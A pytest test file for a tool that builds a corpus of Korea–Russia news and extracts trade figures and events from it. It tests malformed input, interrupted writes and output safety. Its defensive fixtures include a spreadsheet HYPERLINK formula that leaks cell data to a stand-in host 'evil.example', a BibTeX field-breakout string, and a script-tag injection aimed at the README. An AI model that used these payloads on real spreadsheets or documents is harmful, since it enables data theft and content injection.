"""Adding articles, bad input of every kind, interruption, and property tests."""

import csv
import io
import json
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pandas as pd
import pytest
from helpers import DEVELOPMENT, development_data, doc
from hypothesis import given, settings
from hypothesis import strategies as st

from korea_russia import build, schemas, tables
from korea_russia import io as table_io
from korea_russia.analysis import citations
from korea_russia.cli import main
from korea_russia.errors import InputError
from korea_russia.extract import events
from korea_russia.extract import figures as extract
from korea_russia.sources import corpus

ROOT = Path(__file__).resolve().parents[1]
ARTICLE = ROOT / "tests" / "data" / "article.html"


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A throwaway copy of the project's data, used as the project root."""
    development_data(ROOT, tmp_path)
    (tmp_path / "reports").mkdir()
    monkeypatch.setenv("KOREA_RUSSIA_ROOT", str(tmp_path))
    return tmp_path


def test_add_html_brings_only_the_articles_figures(project: Path, capsys) -> None:
    assert main(["add", str(ARTICLE)]) == 0
    out = capsys.readouterr().out
    assert "added data/raw/2025-seoul-and-moscow-weigh-trade-revival-" in out or "added " in out
    sources = pd.read_csv(project / "data" / "sources.csv", dtype=str, keep_default_na=False)
    row = sources.iloc[-1]
    assert (row["source_id"], row["author"], row["published"], row["published_precision"]) == (
        "example-times-doe-2025",
        "Jane Doe",
        "2025-11-02",
        "day",
    )
    assert row["title"] == "Seoul and Moscow weigh trade revival"
    assert row["url"] == "https://example.org/news/seoul-moscow-trade"
    raw = project / "data" / "raw" / row["file"]
    assert "cookies" not in raw.read_text(encoding="utf-8")
    checksums = (project / "data" / "checksums.sha256").read_text(encoding="utf-8")
    assert f"raw/{row['file']}" in checksums
    assert main(["build"]) == 0
    figures = tables.figures(project / "data" / "processed")
    new = figures[figures["source_id"] == "example-times-doe-2025"]
    found = sorted(zip(new["mention"], new["period_start"], new["metric"], strict=True))
    assert found == [
        ("$10.2 billion", "2024", "bilateral_trade"),
        ("$120 million", "2023", "investment"),
        ("$21 billion", "2022", "bilateral_trade"),
        ("2.3 million tonnes", "2024", "lng_imports"),  # "last year", from the page's date
    ]
    for noise in ("2.5%", "1,380", "$9.99", "$8 billion", "7%", "$50 billion", "100 dollars"):
        assert noise not in set(figures["mention"])


def test_adding_the_same_article_twice_is_refused(project: Path, capsys) -> None:
    assert main(["add", str(ARTICLE)]) == 0
    before = (project / "data" / "sources.csv").read_bytes()
    capsys.readouterr()
    assert main(["add", str(ARTICLE)]) == 1
    err = capsys.readouterr().err
    assert "is already in the corpus as 2025-seoul-and-moscow" in err and err.count("\n") == 1
    assert (project / "data" / "sources.csv").read_bytes() == before


def test_add_text_file_with_options_overriding(project: Path, tmp_path: Path) -> None:
    note = tmp_path / "note.txt"
    note.write_text(
        "Bilateral trade between Russia and South Korea reached $9 billion last year, "
        "officials in Seoul said on Monday.\n",
        encoding="utf-8",
    )
    args = [
        "add",
        str(note),
        "--outlet",
        "Wire (Seoul)",
        "--author",
        "Kim Min-ji",
        "--published",
        "2025-03",
        "--title",
        "Trade note",
        "--force",  # a two-sentence note: shorter than an article
    ]
    assert main(args) == 0
    row = pd.read_csv(project / "data" / "sources.csv", dtype=str, keep_default_na=False).iloc[-1]
    assert (row["source_id"], row["published_precision"], row["outlet"]) == (
        "wire-kim-2025",
        "month",
        "Wire (Seoul)",
    )
    raw = project / "data" / "raw" / row["file"]
    assert raw.read_bytes() == note.read_bytes()  # a text file is kept byte for byte
    added = next(d for d in corpus.load() if d.id == "wire-kim-2025")
    [figure] = extract.figures(added)
    assert (figure.value, figure.period_start) == (9e9, "2024")


@pytest.mark.parametrize(
    ("content", "problem"),
    [
        (
            b"<html><body><nav>Home | About</nav><footer>(c) 2025</footer></body></html>",
            "no article text found in the HTML page",
        ),
        (b"", "empty file"),
    ],
)
def test_add_bad_pages(project: Path, tmp_path: Path, capsys, content: bytes, problem: str) -> None:
    page = tmp_path / "page.html"
    page.write_bytes(content)
    before = sorted(p.name for p in (project / "data" / "raw").iterdir())
    assert main(["add", str(page)]) == 1
    assert problem in capsys.readouterr().err
    assert sorted(p.name for p in (project / "data" / "raw").iterdir()) == before


def test_add_rejects_a_bad_date_option(project: Path, capsys) -> None:
    assert main(["add", str(ARTICLE), "--published", "2 Nov 2025"]) == 1
    assert "is not YYYY, YYYY-MM or YYYY-MM-DD" in capsys.readouterr().err


TRADE = "Bilateral trade between Russia and South Korea reached $20 billion in 2019."


@pytest.mark.parametrize(
    ("name", "content", "expected"),
    [
        ("empty", b"", "empty file"),
        ("whitespace", b" \n\t \r\n", "contains only white space"),
        ("binary", bytes(range(256)) * 4, "is a binary file"),
        ("pdf", b"%PDF-1.4\n1 0 obj << /Type /Catalog >>", "is a PDF file"),
        ("utf16_bom", TRADE.encode("utf-16"), ["$20 billion"]),
        (
            "utf16_no_bom",
            TRADE.encode("utf-16-le"),
            "looks like UTF-16 without a byte-order mark",
        ),
        (
            "cp1251",
            "Товарооборот достиг $20 млрд".encode("cp1251"),
            "is not valid utf-8 text",
        ),
        (
            "mixed_line_ends",
            (TRADE + "\r\nOther.\nAnd $5 billion of trade in 2020.\r").encode(),
            ["$20 billion", "$5 billion"],
        ),
        ("number_at_start", b"$20 billion of Korea-Russia trade in 2019", ["$20 billion"]),
        ("number_at_end", b"In 2019 Korea-Russia trade reached $20 billion", ["$20 billion"]),
        (
            "malformed",
            b"Korea-Russia trade was $1,2,3 billion, $.5bn or 1.2.3 million tonnes of LNG in 2019.",
            ["$.5bn"],
        ),
        # Arabic-Indic digits are digits: read as 22, and the span is still the mention
        (
            "non_ascii_digits",
            "Korea-Russia trade reached $٢٢ billion in 2019.".encode(),
            ["$٢٢ billion"],
        ),
        (
            "non_ascii_spaces",
            "Korea-Russia trade reached US$\u202f22\u00a0billion in\u20032019.".encode(),
            ["US$\u202f22\u00a0billion"],
        ),
        ("one_long_line", (TRADE + " " + "x" * 1_000_000).encode(), ["$20 billion"]),
    ],
)
def test_bad_input_catalogue(tmp_path: Path, capsys, name: str, content: bytes, expected) -> None:
    path = tmp_path / f"{name}.txt"
    path.write_bytes(content)
    out = tmp_path / "out.json"
    code = main(["extract", str(path), "--format", "json", "-o", str(out)])
    captured = capsys.readouterr()
    assert "Traceback" not in captured.err
    if isinstance(expected, str):
        assert code == 1 and expected in captured.err and f"{name}.txt" in captured.err
        assert captured.err.count("\n") == 1 and not out.exists()
    else:
        assert code == 0
        assert [row["mention"] for row in json.loads(out.read_text(encoding="utf-8"))] == expected


def test_a_50_mb_file_is_read_and_deduplicated(tmp_path: Path) -> None:
    paragraph = TRADE + " Korean firms invested $3 billion in Russia in 2020.\n"
    path = tmp_path / "big.txt"
    copies = 50_000_000 // len(paragraph) + 1
    path.write_text(paragraph * copies, encoding="utf-8")
    assert path.stat().st_size >= 50_000_000
    out = tmp_path / "big.csv"
    assert main(["extract", str(path), "-o", str(out)]) == 0
    rows = pd.read_csv(out)
    assert sorted(rows["mention"]) == ["$20 billion", "$3 billion"]
    assert rows["occurrences"].tolist() == [copies, copies]


def test_sources_csv_problems_through_the_cli(tmp_path: Path, capsys) -> None:
    header = ",".join(c for c in corpus.SOURCE_COLUMNS if c not in corpus.LATER_COLUMNS)
    (tmp_path / "a.txt").write_text(TRADE, encoding="utf-8")
    for body, problem in (
        ("a,a.txt,O,,,2019-02-30,day,,en", "'2019-02-30' is not a real date"),
        ("a,a.txt,O,,,2019,year,,en\na,b.txt,O,,,2019,year,,en", "duplicate source_id 'a'"),
    ):
        sources = tmp_path / "sources.csv"
        sources.write_text(f"{header}\n{body}\n", encoding="utf-8")
        assert main(["extract", str(tmp_path / "a.txt"), "--sources", str(sources)]) == 1
        assert problem in capsys.readouterr().err


def test_killed_build_leaves_previous_outputs_intact(tmp_path: Path) -> None:
    raw, out = tmp_path / "raw", tmp_path / "out"
    shutil.copytree(ROOT / "data" / "raw", raw)
    env = {**os.environ, "KOREA_RUSSIA_ROOT": str(ROOT)}
    command = [
        sys.executable,
        "-m",
        "korea_russia",
        "build",
        "--raw",
        str(raw),
        "--sources",
        str(ROOT / "data" / "sources.csv"),
        "--out",
        str(out),
    ]
    subprocess.run(command, check=True, env=env, capture_output=True)
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    originals = sorted(raw.glob("*.txt"))
    texts = [p.read_text(encoding="utf-8") for p in originals]
    for i in range(400):  # make the next build slow enough to be killed in the middle
        (raw / f"zz{i:03d}.txt").write_text(
            texts[i % len(texts)] + f"\nCopy {i}.", encoding="utf-8"
        )
    process = subprocess.Popen(
        command, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
    )
    time.sleep(2.0)
    process.send_signal(signal.SIGKILL)
    process.wait()
    assert process.returncode == -signal.SIGKILL
    after = {p.name: p.read_bytes() for p in out.iterdir() if ".korea-russia-" not in p.name}
    assert after == before  # every output is the previous one, whole
    subprocess.run(command, check=True, env=env, capture_output=True)
    final = {p.name for p in out.iterdir()}
    assert final == set(before)  # no temporary file left behind
    # every article that states figures does so again in each of its copies
    files = pd.read_csv(ROOT / "data" / "sources.csv", dtype=str).set_index("file")["source_id"]
    stating = set(pd.read_csv(io.BytesIO(before["figures.csv"]), dtype=str)["source_id"])
    has = [files.get(p.name) in stating for p in originals]
    figures = pd.read_csv(out / "figures.csv")
    assert figures["source_id"].nunique() == sum(has) + sum(has[i % len(has)] for i in range(400))


_pieces = st.sampled_from(
    [
        "On March 23 – 25, 2021",
        " on October 31",
        " in December 2020",
        "24 May 2017",
        " last year",
        " on Friday",
        " in March",
        "08.04.2021",
        " Lavrov",
        " Moon Jae In",
        " visited Seoul",
        ".",
        ",",
        "\n",
        " ",
        "2019",
        "–",
        "$22 billion",
        " the following month",
        " between 2006 and 2019",
    ]
)


@settings(max_examples=1500, deadline=None)
@given(st.lists(_pieces, max_size=30).map("".join))
def test_event_extraction_never_raises_and_spans_slice_back(text: str) -> None:
    for event in events.events(
        doc(text), actors=events.load_actors(ROOT / "data/reference/actors.csv")
    ):
        assert event.quote_start <= event.start < event.end <= event.quote_end
        assert text[event.quote_start : event.quote_end] == event.quote


def test_tables_do_not_depend_on_the_order_of_documents() -> None:
    documents = corpus.load(ROOT / "data" / "raw", ROOT / "data" / "sources.csv")
    forward = build.figures_table(documents)
    backward = build.figures_table(list(reversed(documents)))
    pd.testing.assert_frame_equal(forward, backward)
    pd.testing.assert_frame_equal(
        build.events_table(documents), build.events_table(documents[::-1])
    )


@settings(max_examples=300, deadline=None)
@given(st.lists(st.floats(min_value=0, max_value=1e15, allow_nan=False), min_size=1, max_size=20))
def test_values_survive_csv_and_parquet_exactly(values: list[float]) -> None:
    base = build.figures_table(corpus.load(ROOT / "data" / "raw", ROOT / "data" / "sources.csv"))
    frame = pd.concat([base.iloc[:1]] * len(values), ignore_index=True)
    frame["value"] = values
    frame["figure_id"] = [f"F{i:010d}" for i in range(len(values))]
    from_csv = pd.read_csv(io.BytesIO(table_io.to_csv_bytes(frame)), dtype={"value": "float64"})
    from_parquet = pd.read_parquet(io.BytesIO(table_io.to_parquet_bytes(frame)))
    assert from_csv["value"].tolist() == values
    assert from_parquet["value"].tolist() == values


# Issue 18, first items: jobs capped, permissions from the umask, a normalised duplicate
# check, escaped BibTeX, and -o refusing what is not a regular file.


def test_jobs_are_capped_at_the_files_and_the_cores(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import multiprocessing

    started = []
    real = multiprocessing.get_context

    class Context:
        def Pool(self, n: int, *setup: object):
            started.append(n)
            return real("spawn").Pool(n, *setup)

    monkeypatch.setattr(multiprocessing, "get_context", lambda _method: Context())
    files = []
    for name in ("a", "b"):
        path = tmp_path / f"{name}.txt"
        path.write_text(TRADE, encoding="utf-8")
        files.append(str(path))
    out = tmp_path / "out.csv"
    assert main(["extract", *files, "--jobs", "48", "-o", str(out)]) == 0
    assert started == [min(2, os.cpu_count() or 1)] or (started == [] and os.cpu_count() == 1)
    with pytest.raises(SystemExit):  # argparse's usage error
        main(["extract", *files, "--jobs", "0"])


@pytest.mark.parametrize(("umask", "mode"), [(0o022, 0o644), (0o077, 0o600), (0o002, 0o664)])
def test_written_files_take_their_permissions_from_the_umask(
    tmp_path: Path, umask: int, mode: int
) -> None:
    saved = os.umask(umask)
    try:
        table_io.write_text(tmp_path / "t.csv", "a\n")
    finally:
        os.umask(saved)
    assert (tmp_path / "t.csv").stat().st_mode & 0o777 == mode


def test_the_duplicate_check_sees_through_unicode_forms_and_invisible_characters(
    project: Path, capsys
) -> None:
    import unicodedata

    story = (ROOT / "tests" / "data" / "korea-russia-story.txt").read_text(encoding="utf-8")
    assert main(["add", str(ROOT / "tests" / "data" / "korea-russia-story.txt")]) == 0
    for variant in (
        unicodedata.normalize("NFD", story.replace("Seoul", "Séoul")),
        story.replace("Russia", "Rus\u200bsia", 1),
        story.replace("trade", "trade\u00ad", 1),
    ):
        page = project / "variant.txt"
        page.write_text(variant, encoding="utf-8")
        if "Séoul" in unicodedata.normalize("NFC", variant):  # NFC and NFD of one new text
            assert main(["add", str(page)]) == 0
            page.write_text(unicodedata.normalize("NFC", variant), encoding="utf-8")
        capsys.readouterr()
        assert main(["add", str(page)]) == 1
        assert "is already in the corpus" in capsys.readouterr().err


def test_bibtex_fields_cannot_be_broken_out_of() -> None:
    from korea_russia.analysis import citations

    row = dict.fromkeys(corpus.SOURCE_COLUMNS, "")
    row.update(
        source_id="x",
        file="x.txt",
        title="x}}, note = {injected",
        outlet="R&D 100% _news_ {weekly}",
        language="en",
    )
    text = citations.bibtex({"x": row})
    import bibtexparser

    [entry] = bibtexparser.loads(text).entries
    assert "injected" not in entry.get("note", "") and entry["note"] == "File data/raw/x.txt"
    assert entry["title"].startswith("{x\\textbraceright{}\\textbraceright{}, note")
    assert entry["howpublished"].startswith("R\\&D 100\\% \\_news")


@pytest.mark.parametrize("kind", ["symlink", "folder", "fifo"])
def test_output_must_be_a_regular_file(tmp_path: Path, capsys, kind: str) -> None:
    source = tmp_path / "a.txt"
    source.write_text(TRADE, encoding="utf-8")
    target = tmp_path / "out"
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me\n", encoding="utf-8")
    if kind == "symlink":
        target.symlink_to(victim)
    elif kind == "folder":
        target.mkdir()
    else:
        os.mkfifo(target)
    assert main(["extract", str(source), "-o", str(target)]) == 1
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "give the path of a regular file" in err
    assert victim.read_text(encoding="utf-8") == "keep me\n"
    assert target.is_symlink() or target.is_dir() or target.is_fifo()


@pytest.mark.parametrize("command", ["add", "extract", "events"])
@pytest.mark.parametrize("kind", ["fifo", "dev_zero", "sparse"])
def test_special_and_huge_files_are_refused_before_reading(
    project: Path, tmp_path: Path, command: str, kind: str
) -> None:
    if kind == "fifo":
        path = tmp_path / "pipe.txt"
        os.mkfifo(path)
        problem = "is not a regular file"
    elif kind == "dev_zero":
        path = Path("/dev/zero")
        problem = "is not a regular file"
    else:
        path = tmp_path / "sparse.txt"
        with open(path, "wb") as handle:
            handle.truncate(2 * 2**30)  # 2 GiB of nothing, no disk used
        problem = "over the 64 MiB limit"
    env = {**os.environ, "KOREA_RUSSIA_ROOT": str(project)}
    result = subprocess.run(
        [sys.executable, "-m", "korea_russia", command, str(path)],
        capture_output=True,
        text=True,
        env=env,
        timeout=60,  # a FIFO read would hang; /dev/zero would grow without bound
    )
    assert result.returncode == 1
    assert result.stderr.count("\n") == 1 and problem in result.stderr


def test_numbers_beyond_a_float_are_no_figures(tmp_path: Path) -> None:
    huge = "1" + "0" * 400
    text = (
        f"Trade between Russia and South Korea reached ${huge} billion in 2019, and "
        f"$20 billion in 2020, with a range of $5-{huge} billion."
    )
    found = extract.korea_russia(extract.figures(doc(text)))
    assert [(f.mention, f.value) for f in found] == [("$20 billion", 20e9)]
    page = tmp_path / "huge.txt"
    page.write_text(text, encoding="utf-8")
    out = tmp_path / "out.json"
    assert main(["extract", str(page), "--format", "json", "-o", str(out)]) == 0
    assert "Infinity" not in out.read_text(encoding="utf-8")


def test_metadata_cannot_write_into_the_readme(project: Path) -> None:
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    (project / "README.md").write_text(readme, encoding="utf-8")
    title = "Trade\n# Owned\n<script>alert(1)</script> <!-- end of citations --> \x07bell"
    story = ROOT / "tests" / "data" / "korea-russia-story.txt"
    assert main(["add", str(story), "--title", title, "--url", "https://x.example/\n- fake"]) == 0
    row = pd.read_csv(project / "data" / "sources.csv", dtype=str, keep_default_na=False).iloc[-1]
    assert row["title"] == "Trade # Owned <script>alert(1)</script> <!-- end of citations --> bell"
    assert row["url"] == "https://x.example/ - fake"
    assert main(["build"]) == 0
    first = (project / "README.md").read_text(encoding="utf-8")
    assert "\n# Owned" not in first and "<script>" not in first
    assert first.count("<!-- end of citations -->") == 1
    assert "&lt;script&gt;" in first
    assert main(["build"]) == 0
    assert (project / "README.md").read_text(encoding="utf-8") == first  # it settles


@pytest.mark.parametrize(
    ("given", "problem"),
    [
        ("12025", "is not YYYY, YYYY-MM or YYYY-MM-DD"),
        ("2025/11/02", "is not YYYY, YYYY-MM or YYYY-MM-DD"),
        ("2025-13-40", "is not a real date"),
        ("0001-01-01", "is outside 1900–2100"),
    ],
)
def test_published_is_parsed_strictly(project: Path, capsys, given: str, problem: str) -> None:
    story = ROOT / "tests" / "data" / "korea-russia-story.txt"
    assert main(["add", str(story), "--published", given]) == 1
    err = capsys.readouterr().err
    assert err.startswith("korea-russia: error: --published:") and problem in err


def test_a_page_without_a_date_in_its_markup_gets_none(project: Path, tmp_path: Path) -> None:
    paragraphs = "".join(
        f"<p>In 2019 Russia and South Korea traded more goods than before, officials in Seoul "
        f"said after talks with Moscow, round {n}.</p>"
        for n in range(8)
    )
    page = tmp_path / "undated.html"
    page.write_text(
        f"<html><head><title>Trade talk</title></head><body><article><h1>Trade talk</h1>"
        f"{paragraphs}</article></body></html>",
        encoding="utf-8",
    )
    assert main(["add", str(page)]) == 0
    row = pd.read_csv(project / "data" / "sources.csv", dtype=str, keep_default_na=False).iloc[-1]
    assert (row["published"], row["published_precision"]) == ("", "")  # not 2019-01-01


def test_only_our_own_dead_temporaries_are_cleaned(tmp_path: Path) -> None:
    dead = subprocess.run(
        [sys.executable, "-c", "import os; print(os.getpid())"],
        capture_output=True,
        text=True,
        check=True,
    ).stdout.strip()
    ours_dead = tmp_path / f".figures.csv.korea-russia-{dead}-abc123"
    ours_alive = tmp_path / f".figures.csv.korea-russia-{os.getpid()}-def456"
    theirs = tmp_path / ".cache.tmp"
    other = tmp_path / "notes.tmp"
    for path in (ours_dead, ours_alive, theirs, other):
        path.write_text("x", encoding="utf-8")
    assert table_io.remove_stale_temporaries(tmp_path) == [ours_dead]
    assert {p.name for p in tmp_path.iterdir()} == {ours_alive.name, theirs.name, other.name}


# Item 14: CSV cells that a spreadsheet would run as a formula are written with an apostrophe
# in front, and every reader of our CSVs takes it off again.
FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"click")'


def test_csv_cells_are_safe_to_open_and_read_back_exactly(tmp_path: Path) -> None:
    text = (
        f"{FORMULA} Trade between Russia and South Korea reached $10 billion in 2019.\n"
        "'Quoted' Trade between Russia and South Korea reached $12 billion in 2020.\n"
        "@Dash: Putin met Moon Jae-in in Moscow on June 22, 2018.\n"
    )
    page = tmp_path / "formula.txt"
    page.write_text(text, encoding="utf-8")
    for command, schema, name in (
        ("extract", schemas.FIGURES, "figures.csv"),
        ("events", schemas.EVENTS, "events.csv"),
    ):
        out = tmp_path / name
        assert main([command, str(page), "-o", str(out)]) == 0
        lines = out.read_text(encoding="utf-8").splitlines()
        cells = [cell for row in csv.reader(lines) for cell in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], cells
        assert not [c for c in cells if c.startswith("-") and not _number(c)]
        frame = table_io.read_table(out, schema)
        for row in frame.to_dict("records"):
            assert text[row["quote_start"] : row["quote_end"]] == row["quote"]
    figures_rows = table_io.read_table(tmp_path / "figures.csv", schemas.FIGURES)
    assert sorted(q[:6] for q in figures_rows["quote"]) == ["'Quote", "=HYPER"]
    raw = (tmp_path / "figures.csv").read_text(encoding="utf-8")
    assert "\"'=HYPERLINK(" in raw and ",''Quoted' Trade" in raw
    assert citations.read_figures(tmp_path / "figures.csv")[0]["quote"].startswith("=HYPER")
    events_rows = table_io.read_table(tmp_path / "events.csv", schemas.EVENTS)
    assert events_rows["quote"].tolist() == [
        "@Dash: Putin met Moon Jae-in in Moscow on June 22, 2018."
    ]


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_sources_csv_cells_are_safe_to_open(project: Path) -> None:
    """`add` writes metadata that would start a formula with an apostrophe; the one reader of
    sources.csv gives it back as typed."""
    assert main(["add", str(ARTICLE), "--outlet", "@SUM(A1:A9)", "--title", "+1 shock"]) == 0
    line = (project / "data" / "sources.csv").read_text(encoding="utf-8").splitlines()[-1]
    assert ",'@SUM(A1:A9)," in line and ",'+1 shock," in line
    rows = corpus.read_sources(project / "data" / "sources.csv")
    added = next(r for r in rows.values() if r.outlet.startswith("@"))
    assert (added.outlet, added.title) == ("@SUM(A1:A9)", "+1 shock")


# Item 12: the tables of one build go together. The data package, written last, holds each
# table's SHA-256; a table that does not match it is refused with one line.


def test_tables_from_an_interrupted_build_are_refused_not_mixed(
    project: Path, monkeypatch: pytest.MonkeyPatch, capsys
) -> None:
    processed = project / "data" / "processed"
    build.build_all(out=processed)
    package = json.loads((processed / "datapackage.json").read_text(encoding="utf-8"))
    hashes = {r["path"]: r.get("hash", "") for r in package["resources"]}
    assert hashes["figures.csv"].startswith("sha256:") and hashes["claims.csv"]
    assert tables.events(processed).shape[0] > 0
    raw = project / "data" / "raw"
    first = sorted(raw.glob("*.txt"))[0]
    (project / "extra").mkdir()
    for path in raw.iterdir():
        shutil.copy(path, project / "extra" / path.name)
    (project / "extra" / "zz-copy.txt").write_text(
        first.read_text(encoding="utf-8") + "\nA copy.", encoding="utf-8"
    )
    written = []
    real_write = table_io.write_bytes

    def killed_after_two(path: Path, data: bytes) -> bool:
        if len(written) == 2:
            raise KeyboardInterrupt  # as if the build were killed between two renames
        written.append(Path(path).name)
        return real_write(path, data)

    monkeypatch.setattr(table_io, "write_bytes", killed_after_two)
    with pytest.raises(KeyboardInterrupt):
        build.build_all(raw_dir=project / "extra", out=processed)
    assert written[0] == "events.csv"  # new, while the data package is the old build's
    with pytest.raises(InputError, match="not from the build that wrote datapackage"):
        tables.events(processed)
    monkeypatch.setattr(table_io, "write_bytes", real_write)
    build.build_all(raw_dir=project / "extra", out=processed)
    assert tables.events(processed)["source_id"].str.startswith("zz-copy").any()
    (processed / "figures.csv").write_text(
        (processed / "figures.csv").read_text(encoding="utf-8") + "\n", encoding="utf-8"
    )
    capsys.readouterr()
    assert main(["cite", "trade", "2019"]) == 1
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "figures.csv: is not from the build" in err


def test_frictionless_checks_the_build_hashes(project: Path) -> None:
    processed = project / "data" / "processed"
    build.build_all(out=processed)
    command = Path(sys.executable).with_name("frictionless")

    def valid() -> bool:
        result = subprocess.run(
            [str(command), "validate", "--trusted", "--json", "datapackage.json"],
            cwd=processed,
            capture_output=True,
            text=True,
            check=False,
        )
        return json.loads(result.stdout)["valid"]

    assert valid()
    claims = tables.claims(processed)
    claims.loc[0, "note"] += " (edited)"
    (processed / "claims.csv").write_bytes(table_io.to_csv_bytes(claims))
    assert not valid()  # a table from another build fails its hash


# Items 6 and 7: `add` is one transaction under a lock.
STORY = ROOT / "tests" / "data" / "korea-russia-story.txt"


def _rows(project: Path) -> list[str]:
    return sorted(
        s.source_id for s in corpus.read_sources(project / "data" / "sources.csv").values()
    )


def test_two_adds_at_once_keep_both_rows(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The first add stops right after making its new sources.csv from the one it read and
    waits (up to a second) for the second to finish. Under the lock the second cannot: it
    waits its turn and reads the first's row. Without it, the first would write back its
    stale copy and lose the second's row."""
    import threading

    from korea_russia import intake

    first_has_read, second_done = threading.Event(), threading.Event()
    real_append = intake._append_row

    def append_then_wait(path: Path, source: corpus.Source) -> str:
        text = real_append(path, source)
        if threading.current_thread().name == "first" and not first_has_read.is_set():
            first_has_read.set()
            second_done.wait(1.0)
        return text

    monkeypatch.setattr(intake, "_append_row", append_then_wait)
    before = _rows(project)
    errors: list[BaseException] = []

    def run(path: Path, done: threading.Event | None = None) -> None:
        try:
            intake.add(path, {})
        except BaseException as exc:
            errors.append(exc)
        finally:
            if done:
                done.set()

    first = threading.Thread(target=run, args=(ARTICLE,), name="first")
    first.start()
    assert first_has_read.wait(30)
    second = threading.Thread(target=run, args=(STORY, second_done), name="second")
    second.start()
    first.join(60)
    second.join(60)
    assert not errors
    after = _rows(project)
    assert len(after) == len(before) + 2
    files = {s.file for s in corpus.read_sources(project / "data" / "sources.csv").values()}
    assert files == {p.name for p in corpus.text_files(project / "data" / "raw")}


@pytest.mark.parametrize("killed_at", [1, 2, 3])
def test_an_add_killed_part_way_is_undone_by_the_next(
    project: Path, monkeypatch: pytest.MonkeyPatch, capsys, killed_at: int
) -> None:
    """Killed after its plan and 0, 1 or 2 of its writes (checksums, sources row; the raw
    file comes last), an add leaves no article half in the corpus: the next add undoes the
    rest and adds the article again."""
    data = project / "data"
    before = {p: p.read_bytes() for p in [data / "sources.csv", data / "checksums.sha256"]}
    real_write = table_io.write_bytes
    calls = []

    def killed(path: Path, payload: bytes) -> bool:
        calls.append(Path(path).name)
        if len(calls) > killed_at:
            raise KeyboardInterrupt
        return real_write(path, payload)

    monkeypatch.setattr(table_io, "write_bytes", killed)
    assert main(["add", str(ARTICLE)]) == 130  # as Ctrl-C or a kill would leave it
    monkeypatch.setattr(table_io, "write_bytes", real_write)
    assert calls[0] == ".korea-russia-add.json"
    assert len(list((data / "raw").iterdir())) == len(DEVELOPMENT)  # the raw file comes last
    capsys.readouterr()
    assert main(["add", str(ARTICLE)]) == 0
    captured = capsys.readouterr()
    assert "note: an interrupted add of" in captured.err and captured.err.count("\n") == 1
    assert len(_rows(project)) == len(DEVELOPMENT) + 1
    assert not (data / ".korea-russia-add.json").exists()
    [added] = [
        s
        for s in corpus.read_sources(data / "sources.csv").values()
        if s.source_id not in DEVELOPMENT
    ]
    assert main(["remove", added.source_id]) == 0
    assert {p: p.read_bytes() for p in before} == before  # undone byte for byte


def test_add_cleans_its_own_dead_temporaries_and_accepts_a_bom(project: Path) -> None:
    data = project / "data"
    dead = data / ".sources.csv.korea-russia-999999999-abcd"  # no such process
    dead.write_text("half a file", encoding="utf-8")
    other = data / ".sources.csv.tmp"  # not ours
    other.write_text("someone else's", encoding="utf-8")
    sources = data / "sources.csv"
    sources.write_bytes(b"\xef\xbb\xbf" + sources.read_bytes())  # Excel's "CSV UTF-8"
    assert main(["add", str(ARTICLE)]) == 0
    assert not dead.exists() and other.exists()
    assert len(_rows(project)) == len(DEVELOPMENT) + 1


# Item 5: Ctrl-C at any moment of start-up is one line, exit status 130.
_INTERRUPT_AT = """
import builtins, os, signal, sys
real_import = builtins.__import__
def interrupting(name, *args, **kwargs):
    if name == {module!r}:
        builtins.__import__ = real_import
        os.kill(os.getpid(), signal.SIGINT)
    return real_import(name, *args, **kwargs)
builtins.__import__ = interrupting
sys.argv = ["korea-russia", "claims"]
from korea_russia._entry import run
sys.exit(run())
"""


@pytest.mark.parametrize("module", ["argparse", "korea_russia.analysis", "pandas"])
def test_ctrl_c_while_starting_is_one_line(module: str) -> None:
    """SIGINT arrives while the CLI module loads (argparse, citations) or while a command
    loads pandas: one line on stderr and exit status 130, never a traceback."""
    result = subprocess.run(
        [sys.executable, "-c", _INTERRUPT_AT.format(module=module)],
        capture_output=True,
        text=True,
        check=False,
        env={**os.environ, "KOREA_RUSSIA_ROOT": str(ROOT)},
    )
    assert result.returncode == 130, result.stderr
    assert result.stderr.count("\n") == 1 and "interrupted" in result.stderr, result.stderr
    assert "Traceback" not in result.stderr


# The "one line, exit 1" cases the probe found broken.


def _one_line(argv: list[str], capsys, *expected: str) -> str:
    assert main(argv) == 1
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and err.startswith("korea-russia: error: "), err
    for part in expected:
        assert part in err, err
    return err


def test_links_folders_and_odd_file_names_get_one_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys
) -> None:
    monkeypatch.chdir(tmp_path)
    loop = tmp_path / "loop.txt"
    loop.symlink_to(loop)
    _one_line(["extract", "loop.txt"], capsys, "loop.txt: is a symbolic link that loops")
    (tmp_path / "gone.txt").symlink_to(tmp_path / "missing.txt")
    _one_line(["events", "gone.txt"], capsys, "gone.txt: is a symbolic link to a file that is not")
    latin1 = os.fsdecode(b"caf\xe9.txt")
    (tmp_path / latin1).write_text(TRADE, encoding="utf-8")
    _one_line(["extract", latin1], capsys, "caf\\xe9.txt: has a file name that is not UTF-8")
    _one_line(["extract", "no\nsuch.txt"], capsys, "no\\nsuch.txt: file not found")
    raw = tmp_path / "raw"
    raw.mkdir()
    (raw / "a.txt").symlink_to(raw / "a.txt")
    _one_line(["build", "--raw", str(raw), "--out", str(tmp_path / "out")], capsys, "a.txt")
    real_iterdir = Path.iterdir

    def unsearchable(self: Path):
        if self == raw:
            raise PermissionError(13, "Permission denied")
        return real_iterdir(self)

    monkeypatch.setattr(Path, "iterdir", unsearchable)  # chmod 000 does not stop root
    _one_line(["build", "--raw", str(raw)], capsys, "raw: cannot be listed (Permission denied)")


def test_output_that_cannot_be_written_gets_one_line(tmp_path: Path, capsys) -> None:
    page = tmp_path / "trade.txt"
    page.write_text(TRADE, encoding="utf-8")
    _one_line(["extract", str(page), "-o", str(tmp_path)], capsys, "is a folder")
